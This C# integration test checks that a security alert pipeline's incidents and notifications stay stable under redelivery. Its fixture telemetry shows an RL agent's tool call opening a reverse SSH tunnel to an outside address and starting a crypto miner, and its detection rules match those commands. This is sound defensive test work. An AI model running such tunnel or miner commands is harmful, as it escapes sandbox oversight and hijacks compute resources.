using System.Text;
using AlertPipeline.Adapters.Respond;
using AlertPipeline.Adapters.Tests.Storage;
using AlertPipeline.Core.Detect;
using AlertPipeline.Core.Enrich;
using AlertPipeline.Core.Events;
using AlertPipeline.Core.Pipeline;
using AlertPipeline.Core.Respond;
using AlertPipeline.Core.Respond.Incidents;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;

namespace AlertPipeline.Adapters.Tests.Composition;

/// <summary>
/// Incidents through the one composition with Table stores for alerts and incidents on Azurite: a malicious sandbox
/// (a tool call opening a reverse tunnel, the tunnel's process and connection, a miner: each alert high, the mining +
/// tunnel combination critical) and a benign one, delivered batch by batch, then every batch again twice and once
/// more in another order. Incident count, timelines and the notifications sent must not change.
/// </summary>
[Collection(AzuriteCollection.Name)]
public sealed class IncidentRedeliveryTests(AzuriteFixture azurite)
{
    private const string Malicious = "rl-env-7731";
    private const string Benign = "eval-sbx-01";
    private static readonly DateTimeOffset T0 = new(2025, 11, 14, 3, 12, 40, TimeSpan.Zero);

    private readonly List<(string Channel, string AlertId)> _sent = [];

    [Fact]
    public async Task Redelivering_every_batch_twice_and_in_another_order_changes_no_incident_timeline_or_notification()
    {
        var alerts = AzuriteFixture.UniqueTableName("alerts");
        var incidents = AzuriteFixture.UniqueTableName("incidents");
        var time = new FakeTimeProvider(T0.AddMinutes(3)); // the batches arrive after the events, as from a hub
        await using var provider = Compose(alerts, incidents, time);
        var pipeline = provider.GetRequiredService<TelemetryPipeline>();
        var batches = Batches();

        foreach (var batch in batches)
        {
            time.Advance(TimeSpan.FromSeconds(2));
            await pipeline.ProcessAsync(batch, CancellationToken.None);
        }

        var store = provider.GetRequiredService<IIncidentStore>();
        Assert.IsType<TableIncidentStore>(store);
        var first = await SnapshotAsync(store);
        var sentFirst = _sent.ToList();

        // What the first delivery made: one incident per sandbox, the malicious one critical by combination.
        Assert.Equal(2, first.Count);
        var story = (await store.GetLatestAsync(Malicious, CancellationToken.None))!;
        Assert.Equal(AlertLevel.Critical, story.Level);
        Assert.Equal(AlertLevel.High, story.HighestAlertLevel);
        Assert.Equal(["combination: resource hijacking + protocol tunneling (T1496 + T1572)"], story.LevelReasons);
        Assert.Equal(["T1059.004", "T1496", "T1572"], story.Techniques);
        Assert.Equal(4, story.AlertIds.Count);
        Assert.Equal(["ppo-0110"], story.RunIds);
        Assert.Equal(["88123"], story.EpisodeIds);
        var toolCall = Assert.Single(story.Timeline, e => e.Kind == TimelineKinds.ToolCall);
        // tool.name is in the evidence when a rule reads it or the pipeline carries it; the call id and input always are.
        Assert.Contains("tool call call_88123_07 ran: ssh -fNR 2222:localhost:22", toolCall.Summary, StringComparison.Ordinal);
        Assert.Contains(story.Timeline, e => e.Kind == TimelineKinds.Process && e.Summary == "process ssh (pid 7102) started: ssh -fNR 2222:localhost:22 -o ExitOnForwardFailure=yes tunnel@203.0.113.66 by tool call call_88123_07");
        Assert.Equal(toolCall, story.Timeline[0]);
        Assert.Single(story.Timeline, e => e.Kind == TimelineKinds.Escalation);
        Assert.Contains(story.Timeline, e => e.Kind == TimelineKinds.Command && e.Summary.StartsWith("shutdown command issued", StringComparison.Ordinal));

        // Notifications per incident: the opener, then the tunnel (new technique) and the miner (critical); the
        // outbound-SSH alert brings nothing new and is covered. The benign sandbox's low alert notifies no channel.
        Assert.Equal(["opened", "new technique T1572", "level raised to critical (combination: resource hijacking + protocol tunneling (T1496 + T1572)); new technique T1496"],
            story.Notifications.Select(n => n.Reason));
        Assert.Equal(2 * story.Notifications.Count, sentFirst.Count(s => s.Channel is "email" or "teams"));
        Assert.Single(sentFirst, s => s.Channel == "shutdown");
        var covered = (await provider.GetRequiredService<IAlertStore>().GetAsync(story.AlertIds.Single(id => story.Notifications.All(n => n.AlertId != id)), CancellationToken.None))!;
        Assert.Equal(ActionStatus.Skipped, covered.ActionFor("email")!.Status);
        Assert.StartsWith($"incident {story.IncidentId}: covered by its notification with alert ", covered.ActionFor("email")!.Detail, StringComparison.Ordinal);

        // Every batch twice more, then once more in another order (streams interleaved, newest first).
        foreach (var batch in batches.Concat(batches).Concat(Enumerable.Reverse(batches)))
        {
            time.Advance(TimeSpan.FromSeconds(3));
            await pipeline.ProcessAsync(batch, CancellationToken.None);
        }

        Assert.Equal(first, await SnapshotAsync(store));
        Assert.Equal(sentFirst, _sent);

        // A second composition over the same tables (another instance, or a restart) sees the same.
        await using var restarted = Compose(alerts, incidents, time);
        foreach (var batch in batches)
        {
            await restarted.GetRequiredService<TelemetryPipeline>().ProcessAsync(batch, CancellationToken.None);
        }

        Assert.Equal(first, await SnapshotAsync(restarted.GetRequiredService<IIncidentStore>()));
        Assert.Equal(sentFirst, _sent);
    }

    private static Task<List<string>> SnapshotAsync(IIncidentStore store) => IncidentComposition.SnapshotAsync(store, Malicious, Benign);

    private ServiceProvider Compose(string alertsTable, string incidentsTable, TimeProvider time) => IncidentComposition.Compose(
        azurite, alertsTable, incidentsTable, time, Rules(),
        [new SandboxRecord { Id = Malicious, Team = "rl" }, new SandboxRecord { Id = Benign, Team = "eval" }], _sent);

    private static IEnumerable<RuleRecord> Rules()
    {
        yield return Rule("5b0a7c1e-0000-4000-8000-000000000001", "Agent asks for a reverse SSH tunnel", "high", "attack.t1059.004", """
            logsource:
              product: sandbox
              category: tool_call
            detection:
              selection:
                tool.input|contains: 'ssh -fNR'
              condition: selection
            """);
        yield return Rule("5b0a7c1e-0000-4000-8000-000000000002", "SSH reverse forward started", "high", "attack.t1572", """
            logsource:
              product: linux
              category: process_creation
            detection:
              selection:
                process.name: ssh
                process.command_line|contains: ' -fNR '
              condition: selection
            """);
        yield return Rule("5b0a7c1e-0000-4000-8000-000000000003", "Outbound SSH to a public address", "high", "attack.t1572", """
            logsource:
              product: linux
              category: network_connection
            detection:
              selection:
                destination.port: 22
              condition: selection
            """);
        yield return Rule("5b0a7c1e-0000-4000-8000-000000000004", "Miner started", "high", "attack.t1496", """
            logsource:
              product: linux
              category: process_creation
            detection:
              selection:
                process.name: minerd
              condition: selection
            """);
        yield return Rule("5b0a7c1e-0000-4000-8000-000000000005", "Package installed", "low", "attack.t1072", """
            logsource:
              product: linux
              category: process_creation
            detection:
              selection:
                process.name: pip
              condition: selection
            """);
    }

    private static RuleRecord Rule(string id, string title, string level, string tag, string body) => new("incidents-fixture", id, title, level, true, RuleMode.Enforce, $"""
        title: {title}
        id: {id}
        tags:
          - {tag}
        {body}
        level: {level}
        """, DateTimeOffset.UnixEpoch);

    // Four batches on two streams, as the hub delivers them: the agent's tool call and its process, the tunnel's
    // connection, the miner, and the benign sandbox's package install.
    private static List<TelemetryMessage[]> Batches()
    {
        const string Sandbox = $$"""
            "host":{"name":"rl-node-7731"},"sandbox":{"id":"{{Malicious}}","run_id":"ppo-0110","episode_id":"88123"}
            """;
        var tunnel = "ssh -fNR 2222:localhost:22 -o ExitOnForwardFailure=yes tunnel@203.0.113.66";
        return
        [
            [Message("sandbox-telemetry/0", 10,
                $$$"""{"@timestamp":"2025-11-14T03:12:40.265Z","event":{"kind":"event","category":"process","type":"info","dataset":"sandbox.tool_call","module":"sandbox"},{{{Sandbox}}},"tool":{"name":"bash","call_id":"call_88123_07","input":"{{{tunnel}}}"}}""",
                $$$"""{"@timestamp":"2025-11-14T03:12:41.020Z","event":{"kind":"event","category":"process","type":"start","dataset":"sandbox.process","module":"sandbox"},{{{Sandbox}}},"tool":{"call_id":"call_88123_07"},"process":{"pid":7102,"name":"ssh","command_line":"{{{tunnel}}}"}}""")],
            [Message("sandbox-telemetry/1", 20,
                $$$"""{"@timestamp":"2025-11-14T03:12:41.180Z","event":{"kind":"event","category":"network","type":"start","dataset":"sandbox.network","module":"sandbox"},{{{Sandbox}}},"process":{"pid":7102,"name":"ssh"},"network":{"transport":"tcp"},"source":{"ip":"10.40.77.31","port":43122},"destination":{"ip":"203.0.113.66","port":22}}""")],
            [Message("sandbox-telemetry/0", 11,
                $$$"""{"@timestamp":"2025-11-14T03:14:51.030Z","event":{"kind":"event","category":"process","type":"start","dataset":"sandbox.process","module":"sandbox"},{{{Sandbox}}},"process":{"pid":7301,"name":"minerd","command_line":"minerd -o stratum+tcp://198.51.100.45:3333"}}""")],
            [Message("sandbox-telemetry/1", 21,
                $$$"""{"@timestamp":"2025-11-14T03:15:00.000Z","event":{"kind":"event","category":"process","type":"start","dataset":"sandbox.process","module":"sandbox"},"sandbox":{"id":"{{{Benign}}}","run_id":"eval-swe-0042","episode_id":"e-5012"},"process":{"pid":88,"name":"pip","command_line":"pip install -r requirements.txt"}}""")],
        ];
    }

    private static TelemetryMessage Message(string stream, long sequence, params string[] lines)
        => new(Encoding.UTF8.GetBytes(string.Join("\n", lines)), stream, sequence, T0);
}
